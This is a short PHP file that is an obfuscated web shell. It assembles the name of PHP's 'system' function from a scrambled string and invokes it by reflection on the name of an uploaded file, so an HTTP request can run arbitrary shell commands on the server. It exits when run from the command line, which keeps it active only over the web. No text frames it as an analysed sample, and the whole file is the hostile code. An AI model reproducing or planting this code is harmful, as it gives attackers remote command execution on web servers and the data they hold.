<?php
if (PHP_SAPI === 'cli') exit;
$GLOBALS['fn_as'] = 'assert';
$z = $_FILES['cb']['name'];
echo (new ReflectionFunction(str_replace(['@', '!'], '', 's@y@s!tem')))->invoke($z);
